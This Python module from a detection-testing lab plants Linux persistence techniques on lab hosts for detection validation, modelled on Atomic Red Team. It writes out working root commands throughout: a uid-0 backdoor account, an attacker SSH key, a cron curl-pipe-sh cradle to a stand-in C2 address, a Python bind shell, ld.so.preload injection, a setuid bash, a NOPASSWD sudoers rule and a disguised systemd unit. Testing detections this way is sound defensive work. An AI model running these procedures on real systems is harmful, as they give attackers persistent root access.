"""Real attacker procedures run as root inside a lab host, modelled on Atomic Red Team's Linux tests
(our own commands; nothing vendored).  Each returns the truth evidence: the rows of the Diffy pack
the procedure creates ({query, kind, match}), checked against the collected run by the builder.

Only per-host paths are written (/etc, /root, /tmp, /var/tmp; see hostexec.PER_HOST)."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from diffy_lab import Lab, LabHost

from .hostexec import sh, spawn

Evidence = dict[str, Any]
# TEST-NET-3 (RFC 5737): never routed; cron does not run in the lab anyway.
C2 = "203.0.113.77"


@dataclass(frozen=True)
class Attack:
    """One procedure with its parameters, as planted (the truth's ``artifact`` and ``params``)."""

    artifact: str
    params: dict[str, Any] = field(default_factory=dict)


def _evidence(query: str, **match: str) -> Evidence:
    return {"query": query, "kind": "added", "match": match}


def uid0_account(lab: Lab, host: LabHost, name: str = "sysmaint") -> list[Evidence]:
    """T1136.001 "Create a new user in Linux with root UID and GID": a second uid-0 login, written
    straight into passwd/shadow (useradd would also touch the machine's shared /var/log)."""
    hashed = sh(host, "openssl passwd -6 -salt q7Xw2 'W1nter2026!'").strip()
    sh(
        host,
        f"echo {shlex.quote(f'{name}:x:0:0:{name}:/root:/bin/bash')} >> /etc/passwd\n"
        f"echo {shlex.quote(f'{name}:{hashed}:20423:0:99999:7:::')} >> /etc/shadow",
    )
    return [_evidence("users", username=name, uid="0")]


def root_authorized_key(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1098.004 "Modify SSH Authorized Keys": the attacker's key appended to root's."""
    algorithm, key, comment = lab.attacker_key.with_suffix(".pub").read_text().split()[:3]
    line = f"{algorithm} {key} {comment}"
    sh(host, f"mkdir -p /root/.ssh && echo {shlex.quote(line)} >> /root/.ssh/authorized_keys")
    return [_evidence("authorized_keys", username="root", key=key)]


def curl_cron(lab: Lab, host: LabHost, where: str = "/etc/crontab", minute: str = "*/7") -> list[Evidence]:
    """T1053.003 "Cron - Add script to /etc/cron.d folder" with a download cradle: a `curl | sh` line
    in /etc/crontab or in a new /etc/cron.d file."""
    command = f"root /usr/bin/curl -fsSL http://{C2}/s.sh | /bin/sh"
    line = f"{minute} * * * * {command}"
    op = ">>" if where == "/etc/crontab" else ">"
    sh(host, f"echo {shlex.quote(line)} {op} {where}")
    return [_evidence("crontab", path=where, command=command)]


def listener(lab: Lab, host: LabHost, port: int = 4444) -> list[Evidence]:
    """A bind shell waiting on an odd port (T1059.004-style): a Python socket listener that would
    hand a shell to whoever connects."""
    code = (
        f"import socket,subprocess;s=socket.create_server(('0.0.0.0',{port}));"
        "c,_=s.accept();subprocess.call(['/bin/sh','-i'],stdin=c,stdout=c,stderr=c)"
    )
    spawn(host, f"/usr/bin/python3 -c {shlex.quote(code)}", cwd="/tmp")
    return [_evidence("listening_ports", port=str(port))]


def ld_preload(lab: Lab, host: LabHost, lib: str = "/var/tmp/.ICE/libpcap-ng.so.1") -> list[Evidence]:
    """T1574.006 "Shared Library Injection via /etc/ld.so.preload": a library (built on the host,
    harmless: it only defines a symbol) named in /etc/ld.so.preload."""
    directory = lib.rsplit("/", 1)[0]
    sh(
        host,
        f"mkdir -p {directory} && echo 'int __pcap_ng_hook = 1;' > {directory}/h.c\n"
        f"gcc -shared -fPIC -o {lib} {directory}/h.c && rm -f {directory}/h.c\n"
        f"echo {lib} > /etc/ld.so.preload",
        timeout=60,
    )
    return [_evidence("ld_preload", path="/etc/ld.so.preload")]


def suid_shell(lab: Lab, host: LabHost, path: str = "/tmp/.X11-lock") -> list[Evidence]:
    """T1548.001 "Set a SetUID flag on file": a setuid-root copy of bash (ART's default target is
    under /tmp, and the pack's suid_bin, like osquery's, walks /tmp but not /var/tmp)."""
    sh(host, f"cp /bin/bash {path} && chmod 4755 {path}")
    return [_evidence("suid_bin", path=path)]


def sudoers_rule(
    lab: Lab, host: LabHost, user: str = "sysmaint", name: str = "90-cloud-maint"
) -> list[Evidence]:
    """T1548.003-style persistence: a passwordless sudo rule dropped into /etc/sudoers.d."""
    sh(
        host,
        f"echo {shlex.quote(f'{user} ALL=(ALL) NOPASSWD: ALL')} > /etc/sudoers.d/{name} && "
        f"chmod 0440 /etc/sudoers.d/{name}",
    )
    return [_evidence("sudoers", source=f"/etc/sudoers.d/{name}", header=user)]


def systemd_unit(lab: Lab, host: LabHost, name: str = "dbus-session-helper") -> list[Evidence]:
    """T1543.002 "Create Systemd Service": a unit in /etc/systemd/system, enabled by its wants/
    symlink.  The lab has no systemd (systemctl fails, the systemd_units table is empty), so the
    procedure then starts the unit's ExecStart itself: the stand-in for `systemctl start`."""
    payload = f"/var/tmp/.cache/{name}"
    unit = f"/etc/systemd/system/{name}.service"
    script = (
        "mkdir -p /var/tmp/.cache /etc/systemd/system/multi-user.target.wants\n"
        f"printf '#!/bin/sh\\nwhile :; do sleep 600; done\\n' > {payload} && chmod 0755 {payload}\n"
        f"printf '[Unit]\\nDescription=D-Bus session helper\\n[Service]\\nExecStart={payload}\\n"
        f"Restart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > {unit}\n"
        f"ln -sf {unit} /etc/systemd/system/multi-user.target.wants/{name}.service\n"
        "systemctl daemon-reload 2>/dev/null || true\n"
    )
    sh(host, script)
    spawn(host, payload)
    return [_evidence("processes", cmdline=f"/bin/sh {payload}")]


PROCEDURES: dict[str, Callable[..., list[Evidence]]] = {
    "uid0_account": uid0_account,
    "root_authorized_key": root_authorized_key,
    "curl_cron": curl_cron,
    "listener": listener,
    "ld_preload": ld_preload,
    "suid_shell": suid_shell,
    "sudoers_rule": sudoers_rule,
    "systemd_unit": systemd_unit,
}


def apply(lab: Lab, host: LabHost, attack: Attack) -> list[Evidence]:
    return PROCEDURES[attack.artifact](lab, host, **attack.params)
